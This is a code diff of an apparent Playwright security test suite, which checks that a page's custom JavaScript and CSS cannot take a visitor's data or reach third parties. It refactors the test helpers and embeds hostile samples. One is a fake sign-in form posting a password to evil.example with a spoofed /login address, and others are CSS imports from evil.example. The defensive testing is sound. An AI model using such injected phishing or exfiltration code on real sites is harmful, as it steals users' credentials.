@@ -7,11 +7,12 @@ const hostileCode = readFileSync(new URL("hostile-code.js", import.meta.url), "u
 const LONG_MS = 150_000;
 
 /** What hostile code would like to change. */
-async function belongings(request: APIRequestContext, { token, id }: Member): Promise<unknown> {
+async function belongings(request: APIRequestContext, { token, id, halka }: Member): Promise<unknown> {
   const headers = { authorization: `Bearer ${token}` };
   return [
-    await (await request.get("/v1/widget/link", { headers })).json(),
-    await (await request.get(`/v1/appearance/${id}`, { headers })).json(),
+    await halka.listPageLinks(),
+    await halka.getAppearance({ userId: id }),
+    // the only one that needs a session
     await (await request.get(`/v1/settings/${id}`, { headers })).json(),
   ];
 }
@@ -58,9 +59,9 @@ test("a page's custom JavaScript gets nothing from a signed-in visitor or from i
 }) => {
   test.setTimeout(LONG_MS * 2);
   const [owner, viewer] = [await newMember(request), await newMember(request)];
-  for (const member of [owner, viewer]) await createLinks(request, member, ["Shop"]);
-  await setAppearance(request, viewer, {});
-  await setAppearance(request, owner, { custom_js: hostileCode });
+  for (const member of [owner, viewer]) await createLinks(member, ["Shop"]);
+  await setAppearance(viewer, {});
+  await setAppearance(owner, { custom_js: hostileCode });
 
   for (const victim of [viewer, owner]) {
     const context = await browser.newContext({ baseURL: baseURL! });
@@ -82,19 +83,14 @@ test("a page's custom JavaScript gets nothing from a signed-in visitor or from i
 test("a draft's custom JavaScript gets nothing from its editor", async ({ page, request }) => {
   test.setTimeout(LONG_MS * 2);
   const owner = await newMember(request);
-  await setAppearance(request, owner, {});
+  await setAppearance(owner, {});
   await beSignedIn(page, owner);
   await openApp(page, owner);
   // React would restore its own document over what this test adds to it
   await page.goto("/forgot-password", { waitUntil: "networkidle" });
   const before = await belongings(request, owner);
   const shown = watchDialogs(page);
-  const { html } = (await (
-    await request.post("/v1/appearance/preview", {
-      headers: { authorization: `Bearer ${owner.token}` },
-      data: { custom_js: hostileCode, title: "A draft" },
-    })
-  ).json()) as { html: string };
+  const { html } = await owner.halka.previewPage({ custom_js: hostileCode, title: "A draft" });
   await page.evaluate((draft) => {
     const frame = document.createElement("iframe");
     frame.setAttribute("sandbox", "allow-scripts");
@@ -127,7 +123,7 @@ test("custom JavaScript cannot show a path of the application in the address bar
     "document.body.innerHTML = '<h1>Sign in</h1><form method=post action=https://evil.example/take><input name=password value=secret><button>Sign in</button></form>';",
     `try { history.replaceState(null, '', '${baseURL}/login'); document.title = 'taken'; } catch {}`,
   ].join("\n");
-  await setAppearance(request, owner, { custom_js: fake });
+  await setAppearance(owner, { custom_js: fake });
   const posted: string[] = [];
   page.on("request", (each) => each.method() === "POST" && posted.push(new URL(each.url()).pathname));
   await page.goto(`/${owner.username}`);
@@ -152,8 +148,8 @@ test("recognises owners on their page with custom JavaScript, and keeps the addr
   request,
 }) => {
   const owner = await newMember(request);
-  await setAppearance(request, owner, { custom_js: "document.title = 'mine'" });
-  await createLinks(request, owner, ["Shop"]);
+  await setAppearance(owner, { custom_js: "document.title = 'mine'" });
+  await createLinks(owner, ["Shop"]);
   const { cookies } = await request.storageState();
   await page.context().addCookies(cookies);
   const reports = () => page.waitForRequest((each) => each.method() === "POST" && each.url().includes("/v1/"));
@@ -170,7 +166,7 @@ test("custom CSS draws, but closes no element, runs no script and contacts no th
   request,
 }) => {
   const owner = await newMember(request);
-  await setAppearance(request, owner, {
+  await setAppearance(owner, {
     custom_css: [
       "@import url(https://evil.example/a.css);",
       "@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}",
